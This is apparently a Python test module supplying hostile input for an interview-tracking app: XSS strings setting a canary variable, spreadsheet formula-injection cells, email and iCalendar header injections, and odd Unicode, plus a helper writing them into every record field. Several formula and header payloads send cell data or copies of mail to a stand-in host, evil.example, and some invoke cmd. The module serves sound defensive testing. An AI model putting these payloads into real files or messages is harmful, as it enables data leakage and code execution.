"""Hostile text, shared by every test that shows or writes user text.

Import what you need::

    from tests.hostile import XSS_PAYLOADS, FORMULA_PAYLOADS, HEADER_INJECTIONS

* :data:`XSS_PAYLOADS`: markup and script that must never become live in a widget, an HTML
  view, a Voila page or an exported file. Each one, if rendered as HTML, would run script
  or load something (``window.__afterview_xss`` is the canary a browser test can check;
  none of these call ``alert`` so a missed dialog cannot hang a headless browser).
* :data:`FORMULA_PAYLOADS`: cell text a spreadsheet would run as a formula (OWASP "CSV
  injection") unless neutralised; exports must keep them as text and re-import them exactly.
* :data:`HEADER_INJECTIONS`: single-line fields (subject, recipient, names) carrying line
  breaks that would add a header to an ``.eml`` file or a property to an ``.ics`` event.
* :data:`ALL_HOSTILE`: everything above plus odd-but-valid Unicode, for "save it in every
  text field and look at every view" loops.

Every payload is valid Python text that a record accepts in a *multi-line* text field
(no NUL or other control characters except tab/newline/CR). :func:`single_line` gives the
ones a single-line field (company, role, subject, ...) accepts.
"""

from __future__ import annotations

from datetime import UTC

__all__ = [
    "ALL_HOSTILE",
    "CANARY",
    "FORMULA_PAYLOADS",
    "HEADER_INJECTIONS",
    "UNICODE_ODDITIES",
    "XSS_PAYLOADS",
    "add_hostile_interview",
    "is_single_line",
    "single_line",
]

#: What the script payloads set; a browser test asserts it stays undefined.
CANARY = "window.__afterview_xss"

_JS = "window.__afterview_xss=1"

XSS_PAYLOADS: tuple[str, ...] = (
    f"<script>{_JS}</script>",
    f"<img src=x onerror={_JS}>",
    f"<img src=x onerror=\"{_JS}\">",
    f"<svg onload={_JS}>",
    f"<svg><script>{_JS}</script></svg>",
    f"<body onload={_JS}>",
    f"<iframe src=\"javascript:{_JS}\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__afterview_xss=1</script>\"></iframe>",
    f"<a href=\"javascript:{_JS}\">click me</a>",
    f"<a href=\"JaVaScRiPt:{_JS}\">mixed case</a>",
    f"<a href=\"java&#x09;script:{_JS}\">entity tab</a>",
    # base64 of <script>window.__afterview_xss=1</script>
    "<a href=\"data:text/html;base64,"
    "PHNjcmlwdD53aW5kb3cuX19hZnRlcnZpZXdfeHNzPTE8L3NjcmlwdD4=\">data</a>",
    f"<details open ontoggle={_JS}>",
    f"<input autofocus onfocus={_JS}>",
    f"<video><source onerror=\"{_JS}\"></video>",
    f"<audio src=x onerror={_JS}>",
    f"<marquee onstart={_JS}>",
    f"<object data=\"javascript:{_JS}\"></object>",
    f"<embed src=\"javascript:{_JS}\">",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_JS}>",
    f"\"><script>{_JS}</script>",
    f"'><img src=x onerror={_JS}>",
    f"</textarea><script>{_JS}</script>",
    f"</title><script>{_JS}</script>",
    f"<style>@import 'javascript:{_JS}';</style>",
    f"<div style=\"background:url(javascript:{_JS})\">",
    f"<form action=\"javascript:{_JS}\"><button>go</button></form>",
    f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{_JS}\">",
    f"<base href=\"javascript:{_JS}//\">",
    f"<link rel=import href=\"data:text/html,<script>{_JS}</script>\">",
    f"{{{{constructor.constructor('{_JS}')()}}}}",  # template-engine style
    f"${{{_JS}}}",  # JS template literal
    f"&lt;img src=x onerror={_JS}&gt;",  # pre-escaped: must not be un-escaped into markup
    f"<scr<script>ipt>{_JS}</scr</script>ipt>",  # naive filter bypass
    f"<IMG SRC=x OnErRoR={_JS}>",
    f"<img src=x onerror\n={_JS}>",  # newline inside the tag (multi-line fields only)
    f"$$<img src=x onerror={_JS}>$$",  # Markdown/MathJax output in Jupyter
    f"[click](javascript:{_JS})",  # Markdown link
)

#: Cells a spreadsheet would evaluate (OWASP CSV injection), plus the escape character itself.
FORMULA_PAYLOADS: tuple[str, ...] = (
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "+1+1",
    "+49 30 1234567",  # a real phone number that starts with +
    "-2+3",
    "-- just a dash list",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@mention",
    "\t=1+1",
    "\r=1+1",
    "\tleading tab",
    "'already quoted",
    "''two quotes",
    "'=1+1",
    "==",
    "=",
    "+",
    "-",
    "@",
    "'",
)

#: Line breaks where a header or an iCalendar property must stay one line.
HEADER_INJECTIONS: tuple[str, ...] = (
    "Thanks\r\nBcc: everyone@evil.example",
    "Thanks\nBcc: everyone@evil.example",
    "Thanks\rBcc: everyone@evil.example",
    "Thanks\r\n\r\n<html>injected body</html>",
    "Follow-up\r\nContent-Type: text/html",
    "Meeting\r\nATTENDEE:mailto:evil@evil.example",
    "Meeting\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:injected",
    "Meeting\u2028Bcc: everyone@evil.example",  # Unicode line separator
    "Meeting\u0085Bcc: everyone@evil.example",  # NEL
    "x" * 998 + "\r\nBcc: long@evil.example",  # past the RFC 5322 line limit
)

#: Odd but valid text: right-to-left override, zero-width joiners, emoji, combining marks.
UNICODE_ODDITIES: tuple[str, ...] = (
    "\u202egnp.exe",  # right-to-left override
    "Zoë Ångström-Nuñez",
    "田中 太郎",
    "👩\u200d💻 engineer",
    "e\u0301\u0301\u0301",
    "\ufeffBOM at start",
    "tab\tinside",
)

ALL_HOSTILE: tuple[str, ...] = (
    XSS_PAYLOADS + FORMULA_PAYLOADS + HEADER_INJECTIONS + UNICODE_ODDITIES
)

_LINE_BREAKS = ("\r", "\n", "\u2028", "\u2029", "\x85")


def is_single_line(text: str) -> bool:
    """True when ``text`` has no line break a single-line field would refuse."""
    return not any(ch in text for ch in _LINE_BREAKS)


def single_line(payloads: tuple[str, ...] = ALL_HOSTILE, max_len: int = 200) -> tuple[str, ...]:
    """The payloads a single-line field of ``max_len`` characters accepts (stripped, non-empty).

    >>> all(is_single_line(p) for p in single_line())
    True
    """
    return tuple(
        p for p in payloads if is_single_line(p) and p.strip() and len(p.strip()) <= max_len
    )


def add_hostile_interview(journal, payload: str, day: int = 0) -> str:
    """Write ``payload`` into every text field of a new interview and everything hung on it
    (interviewer, question, employer event, sent message, a reference, the profile);
    single-line fields get it with line breaks as spaces. ``day`` shifts the interview by
    that many days, so several can share a journal. Returns the interview's id."""
    import re
    from datetime import datetime, timedelta

    from afterview_analysis.records import (
        EmployerEvent,
        Interview,
        Interviewer,
        Message,
        Profile,
        Question,
        Reference,
        SkillScore,
    )

    line = re.sub(r"[\r\n\u2028\u2029\x85]", " ", payload).strip()[:200]
    start = datetime(2026, 3, 2, 8, 30, tzinfo=UTC) + timedelta(days=day)
    journal.update(Profile(name=line, pitch=payload, signature=payload,
                           timezone="Europe/Berlin", questions_to_ask=payload))
    iv = Interview(
        company=line, role=line, stage="onsite", starts_at=start, location=line,
        notes=payload, process_length=line, feedback_by=(start + timedelta(days=7)).date(),
        recall_point=payload, forgotten_strength=payload, predicted_chance=40,
        outcome="rejected", outcome_on=(start + timedelta(days=10)).date(),
    )
    ref = Reference(name=line, relationship=line)
    journal.save_interview(
        iv,
        interviewers=[Interviewer(interview_id=iv.id, name=line, title=line)],
        questions=[Question(interview_id=iv.id, text=payload, answer=payload, score=2,
                            next_time=payload, category="system_design")],
        skill_scores=[SkillScore(interview_id=iv.id, skill="communication", score=2)],
    )
    journal.add(ref)
    journal.add(EmployerEvent(interview_id=iv.id, kind="info_request",
                              at=iv.ends_at + timedelta(days=1), note=payload))
    journal.add(Message(interview_id=iv.id, kind="thank_you", recipient=line, subject=line,
                        body=payload, created_at=iv.ends_at,
                        sent_at=iv.ends_at + timedelta(hours=3)))
    return iv.id
